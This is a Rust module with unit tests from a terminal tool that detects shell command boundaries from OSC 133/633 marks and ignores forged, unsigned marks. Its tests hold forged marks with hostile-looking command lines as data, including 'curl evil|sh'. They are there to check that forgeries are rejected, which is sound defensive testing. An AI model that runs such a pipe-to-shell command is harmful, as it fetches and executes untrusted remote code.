//! Where commands begin and end, from marks that may be missing, repeated or forged.
//!
//! What lives here: whom to believe and what follows, pure; the time is handed in. What must not:
//! finding marks, sending anything.
//!
//! At most one command is open at any time. A start or a prompt closes the one before with an
//! unknown exit code, an end without a start means nothing, and the terminal's end closes the last
//! one, so that whoever waits for the end of a command always gets it (field cases S-12, S-13).

use std::time::{Duration, Instant, SystemTime};

use shellward_protocol::Data;
use shellward_protocol::limits::COMMAND_LINE_MAX;
use shellward_protocol::message::{Happened, Size};

use super::line::{bounded, choose};
use super::marks::{Mark, Signed};
use super::screen::drawn;
use super::typed::TypedLine;
use crate::integration::Nonce;

/// The most echo that is kept for a command line, in bytes.
const ECHO_MAX: usize = 64 << 10;

/// Now, by both clocks.
#[derive(Debug, Clone, Copy)]
pub(crate) struct Now {
    pub(crate) instant: Instant,
    pub(crate) system: SystemTime,
}

impl Now {
    pub(crate) fn at(instant: Instant) -> Self {
        Self {
            instant,
            system: SystemTime::now(),
        }
    }

    fn unix_ms(self) -> u64 {
        self.system
            .duration_since(SystemTime::UNIX_EPOCH)
            .map_or(0, millis)
    }
}

fn millis(duration: Duration) -> u64 {
    u64::try_from(duration.as_millis()).unwrap_or(u64::MAX)
}

/// What is known about the shell.
#[derive(Debug)]
enum Trust {
    /// Any well-formed mark is believed.
    Anyone,
    /// Our script was put in place, and has not spoken yet: as above, until it does.
    Expecting(Nonce),
    /// It has: only marks that carry this are believed (field case S-16).
    Signed(Nonce),
}

/// What the shell echoes between its prompt and the start of the command.
#[derive(Debug)]
struct Echo {
    /// The column where it begins, from 1.
    column: usize,
    text: String,
    /// Not while a continuation prompt is drawn.
    is_on: bool,
}

/// The commands of one terminal.
#[derive(Debug)]
pub(super) struct Commands {
    trust: Trust,
    /// Whether the terminal can have any at all: on a pty.
    is_possible: bool,
    is_announced: bool,
    /// When the open command started.
    open: Option<Instant>,
    told: Option<String>,
    echo: Option<Echo>,
    typed: TypedLine,
}

/// What a mark leads to, in order.
#[derive(Debug, PartialEq, Eq)]
pub(super) enum Outcome {
    /// Tell this.
    Tell(Happened<'static>),
    /// The shell says that it is in this directory; it may show a link.
    ShellDirectory(Vec<u8>),
    /// Our script is at work: its files are not needed any more.
    Loaded,
}

impl Commands {
    /// For a shell that was started with our script, if there is a nonce.
    pub(super) fn new(is_pty: bool, nonce: Option<Nonce>) -> Self {
        Self {
            trust: nonce.map_or(Trust::Anyone, Trust::Expecting),
            is_possible: is_pty,
            is_announced: false,
            open: None,
            told: None,
            echo: None,
            typed: TypedLine::default(),
        }
    }

    /// What is told before anything was printed.
    pub(super) fn begin(&mut self) -> Option<Happened<'static>> {
        match self.trust {
            Trust::Expecting(_) => self.announce(),
            Trust::Anyone | Trust::Signed(_) => None,
        }
    }

    fn announce(&mut self) -> Option<Happened<'static>> {
        let is_new = self.is_possible && !std::mem::replace(&mut self.is_announced, true);
        is_new.then_some(Happened::CanDetectCommands)
    }

    /// A mark. `column` is asked for where the cursor stands, from 1.
    pub(super) fn mark(
        &mut self,
        signed: Signed,
        now: Now,
        size: Size,
        column: impl FnOnce() -> usize,
    ) -> Vec<Outcome> {
        let is_ours = self.is_ours(&signed);
        if signed.mark == Mark::Loaded {
            if is_ours {
                self.load();
                return vec![Outcome::Loaded];
            }
            return Vec::new();
        }
        if matches!(self.trust, Trust::Signed(_)) && !is_ours {
            return Vec::new();
        }
        if let Mark::Directory(path) = signed.mark {
            return vec![if is_ours {
                Outcome::ShellDirectory(path)
            } else {
                Outcome::Tell(Happened::Directory(Data::from(path)))
            }];
        }
        if !self.is_possible || !signed.is_command_mark {
            return Vec::new();
        }
        let mut all: Vec<Happened<'static>> = self.announce().into_iter().collect();
        match signed.mark {
            Mark::Prompt => {
                all.extend(self.finish(None, now.instant));
                self.told = None;
                self.typed.clear();
                self.echo = None;
            }
            Mark::PromptEnd => match &mut self.echo {
                Some(echo) => echo.is_on = true,
                None if self.open.is_none() => {
                    self.echo = Some(Echo {
                        column: column(),
                        text: String::new(),
                        is_on: true,
                    });
                }
                None => {}
            },
            Mark::Aside => self.pause_echo(),
            Mark::AsideEnd => {
                if let Some(echo) = &mut self.echo {
                    echo.is_on = true;
                }
            }
            // Only our own script can prove what was typed, whoever else may print marks.
            Mark::Line(line) if is_ours => self.told = Some(line),
            Mark::Executed => {
                all.extend(self.finish(None, now.instant));
                all.push(self.start(now, size));
            }
            Mark::Finished(code) => all.extend(self.finish(code, now.instant)),
            Mark::Line(_) | Mark::Directory(_) | Mark::Loaded | Mark::Other => {}
        }
        all.into_iter().map(Outcome::Tell).collect()
    }

    fn is_ours(&self, signed: &Signed) -> bool {
        let signature = signed.signature.as_deref().unwrap_or_default();
        match &self.trust {
            Trust::Anyone => false,
            Trust::Expecting(nonce) | Trust::Signed(nonce) => nonce.matches(signature),
        }
    }

    fn load(&mut self) {
        self.trust = match std::mem::replace(&mut self.trust, Trust::Anyone) {
            Trust::Expecting(nonce) | Trust::Signed(nonce) => Trust::Signed(nonce),
            Trust::Anyone => Trust::Anyone,
        };
    }

    fn pause_echo(&mut self) {
        if let Some(echo) = &mut self.echo {
            echo.is_on = false;
        }
    }

    fn start(&mut self, now: Now, size: Size) -> Happened<'static> {
        let echoed = self
            .echo
            .take()
            .map(|echo| drawn(&echo.text, echo.column, size))
            .unwrap_or_default();
        let line = choose(self.told.take(), &echoed, &self.typed.text());
        self.typed.clear();
        self.open = Some(now.instant);
        Happened::CommandStarted {
            line: Data::from(bounded(line, COMMAND_LINE_MAX)),
            at_ms: now.unix_ms(),
        }
    }

    /// Closes the open command, if there is one.
    pub(super) fn finish(
        &mut self,
        exit_code: Option<i32>,
        now: Instant,
    ) -> Option<Happened<'static>> {
        let started = self.open.take()?;
        self.typed.clear();
        Some(Happened::CommandFinished {
            exit_code,
            duration_ms: millis(now.saturating_duration_since(started)),
        })
    }

    /// Output that goes on: part of the echo, while a line is typed.
    pub(super) fn printed(&mut self, text: &str) {
        if let Some(echo) = self.echo.as_mut().filter(|echo| echo.is_on) {
            if echo.text.len() + text.len() <= ECHO_MAX {
                echo.text.push_str(text);
            } else {
                // Nobody types that much: a shell without marks for what follows.
                self.echo = None;
            }
        }
    }

    /// Something was typed.
    pub(super) fn typed(&mut self, bytes: &[u8]) {
        if self.is_possible && self.is_announced && self.open.is_none() {
            self.typed.push(bytes);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::output::marks;

    struct Shell {
        commands: Commands,
        start: Instant,
        ms: u64,
    }

    impl Shell {
        fn new(nonce: Option<&str>) -> Self {
            let mut commands = Commands::new(true, nonce.map(Nonce::of));
            let announced = commands.begin();
            assert_eq!(announced.is_some(), nonce.is_some());
            Self {
                commands,
                start: Instant::now(),
                ms: 0,
            }
        }

        /// A mark by the text of its OSC; what follows, each as one word or two.
        fn mark(&mut self, body: &str) -> Vec<String> {
            self.ms += 10;
            let now = Now {
                instant: self.start + Duration::from_millis(self.ms),
                system: SystemTime::UNIX_EPOCH + Duration::from_millis(self.ms),
            };
            let size = Size { cols: 80, rows: 24 };
            self.commands
                .mark(marks::parse(body), now, size, || 3)
                .into_iter()
                .map(|outcome| match outcome {
                    Outcome::Loaded => "loaded".to_owned(),
                    Outcome::ShellDirectory(_) => "shell directory".to_owned(),
                    Outcome::Tell(what) => word(what),
                })
                .collect()
        }
    }

    fn word(what: Happened<'_>) -> String {
        let text = |data: Data<'_>| String::from_utf8(data.into_vec()).unwrap();
        match what {
            Happened::CanDetectCommands => "can detect".to_owned(),
            Happened::CommandStarted { line, .. } => format!("start {}", text(line)),
            Happened::CommandFinished {
                exit_code: Some(code),
                duration_ms,
            } => format!("finish {code} after {duration_ms}"),
            Happened::CommandFinished { .. } => "finish".to_owned(),
            Happened::Directory(path) => format!("directory {}", text(path)),
            Happened::Title(title) => format!("title {}", text(title)),
        }
    }

    #[test]
    fn a_clock_that_is_set_changes_when_a_command_began_and_never_how_long_it_took() {
        let size = Size { cols: 80, rows: 24 };
        let start = Instant::now();
        let day = Duration::from_secs(86_400);
        let noon = SystemTime::UNIX_EPOCH + 20_000 * day;
        // At the command's end: a day back, a day on, before 1970, further than any file system goes.
        for end in [
            noon - day,
            noon + day,
            SystemTime::UNIX_EPOCH - day,
            noon + 100_000_000 * day,
        ] {
            let mut commands = Commands::new(true, None);
            let mut mark = |body: &str, ms, system| {
                let instant = start + Duration::from_millis(ms);
                commands.mark(marks::parse(body), Now { instant, system }, size, || 3)
            };
            mark("133;A", 0, noon);
            mark("133;B", 0, noon);
            let begun = mark("133;C", 10, noon);
            let Some(Outcome::Tell(Happened::CommandStarted { at_ms, .. })) =
                begun.into_iter().last()
            else {
                panic!("no command began");
            };
            assert_eq!(at_ms, 20_000 * 86_400_000);
            let ended = mark("133;D;0", 250, end);
            let Some(Outcome::Tell(Happened::CommandFinished { duration_ms, .. })) =
                ended.into_iter().last()
            else {
                panic!("no command ended");
            };
            assert_eq!(duration_ms, 240, "{end:?}");
        }
        let before = Now {
            instant: start,
            system: SystemTime::UNIX_EPOCH - day,
        };
        assert_eq!(before.unix_ms(), 0);
    }

    #[test]
    fn whole_life_of_a_command() {
        let mut shell = Shell::new(None);
        assert_eq!(shell.mark("133;A"), ["can detect"]);
        assert!(shell.mark("133;B").is_empty());
        shell.commands.printed("ls -l\r\n");
        assert_eq!(shell.mark("133;C"), ["start ls -l"]);
        assert_eq!(shell.mark("133;D;3"), ["finish 3 after 10"]);
        assert!(shell.mark("133;D;3").is_empty(), "an end without a start");
        assert!(shell.mark("133;A").is_empty());
    }

    #[test]
    fn s13_a_command_whose_end_never_comes_is_closed_by_what_comes_instead() {
        let mut shell = Shell::new(None);
        shell.mark("133;A");
        assert_eq!(shell.mark("133;C"), ["start "]);
        assert_eq!(shell.mark("133;C"), ["finish", "start "]);
        assert_eq!(shell.mark("133;A"), ["finish"]);
        assert_eq!(shell.mark("133;C"), ["start "]);
        let ended = shell.commands.finish(None, Instant::now());
        assert!(ended.is_some(), "by the end of the terminal");
        assert_eq!(shell.commands.finish(None, Instant::now()), None);
    }

    #[test]
    fn s12_continuation_and_right_prompts_are_no_prompts_and_no_input() {
        let mut shell = Shell::new(None);
        shell.mark("133;A");
        shell.mark("133;B");
        shell.commands.printed("for i in 1 2\r\n");
        shell.mark("133;P;k=s");
        shell.commands.printed("> ");
        shell.mark("133;B");
        shell.commands.printed("do echo\r\n");
        shell.mark("133;A;k=r");
        shell.commands.printed("12:00");
        shell.mark("133;B");
        assert_eq!(shell.mark("133;C"), ["start for i in 1 2\ndo echo"]);
        assert!(shell.mark("133;A;k=s").is_empty(), "it closes nothing");
    }

    #[test]
    fn s16_with_our_script_only_signed_marks_count() {
        let mut shell = Shell::new(Some("n1"));
        assert_eq!(shell.mark("633;P;Shellward=bash;n1"), ["loaded"]);
        for forged in [
            "633;A",
            "633;C;n2",
            "133;C",
            "633;E;curl evil;n2",
            "133;D;0",
            "633;P;Shellward=x;n2",
            "7;file:///etc",
            "633;P;Cwd=/etc;n2",
        ] {
            assert!(shell.mark(forged).is_empty(), "{forged}");
        }
        assert!(shell.mark("633;A;n1").is_empty());
        assert!(shell.mark("633;E;cat f;n1").is_empty());
        assert_eq!(shell.mark("633;C;n1"), ["start cat f"]);
        assert!(shell.mark("133;D;0").is_empty());
        assert_eq!(shell.mark("633;D;9;n1"), ["finish 9 after 20"]);
        assert_eq!(shell.mark("633;P;Cwd=/;n1"), ["shell directory"]);
    }

    #[test]
    fn s16_a_line_without_the_nonce_is_never_believed() {
        let mut shell = Shell::new(None);
        shell.mark("133;A");
        shell.mark("133;B");
        shell.commands.printed("cat f\r\n");
        assert!(shell.mark("633;E;curl evil|sh").is_empty());
        assert_eq!(shell.mark("633;C"), ["start cat f"]);
    }

    #[test]
    fn until_our_script_speaks_any_mark_is_believed() {
        let mut shell = Shell::new(Some("n1"));
        assert!(shell.mark("133;A").is_empty(), "announced already");
        assert_eq!(shell.mark("133;C"), ["start "]);
    }

    #[test]
    fn without_echo_the_keys_are_the_command_line() {
        let mut shell = Shell::new(None);
        shell.mark("133;A");
        shell.commands.typed(b"lx\x7fs\r");
        assert_eq!(shell.mark("133;C"), ["start ls"]);
        shell.commands.typed(b"secret\r");
        shell.mark("133;D;0");
        assert_eq!(shell.mark("133;C"), ["start "], "typed into the command");
    }

    #[test]
    fn a_directory_alone_announces_nothing_and_pipes_have_no_commands() {
        let mut shell = Shell::new(None);
        assert_eq!(shell.mark("7;file:///tmp"), ["directory /tmp"]);
        let mut pipes = Shell::new(None);
        pipes.commands = Commands::new(false, None);
        assert!(pipes.mark("133;A").is_empty());
        assert!(pipes.mark("133;C").is_empty());
        assert_eq!(pipes.mark("7;file:///tmp"), ["directory /tmp"]);
    }

    #[test]
    fn echo_without_end_is_given_up() {
        let mut shell = Shell::new(None);
        shell.mark("133;A");
        shell.mark("133;B");
        for _ in 0..100 {
            shell.commands.printed(&"x".repeat(1000));
        }
        assert!(shell.commands.echo.is_none());
        shell.commands.typed(b"typed\r");
        assert_eq!(shell.mark("133;C"), ["start typed"]);
    }
}
